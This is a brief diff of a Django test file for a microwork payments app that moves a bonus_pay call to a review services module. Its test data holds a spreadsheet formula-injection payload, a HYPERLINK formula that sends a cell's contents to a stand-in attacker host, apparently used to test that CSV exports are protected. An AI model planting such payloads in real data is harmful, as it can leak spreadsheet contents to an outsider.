@@ -7,8 +7,8 @@ import io
 import pytest
 from django.urls import reverse
 
-from microwork.payments import services
 from microwork.payments.tests.conftest import answer, go_live, make_project
+from microwork.review import services as review_services
 
 ATTACKS = [
     '=HYPERLINK("https://evil.example/?"&A1,"Click for your bonus")',
@@ -31,7 +31,7 @@ def bonuses(rich_acme, rita, walt):
     go_live(project, rita)
     answer(project, walt)
     for i, message in enumerate(ATTACKS):
-        services.bonus_pay(
+        review_services.bonus_pay(
             organisation=rich_acme,
             actor=rita,
             workers=[walt],
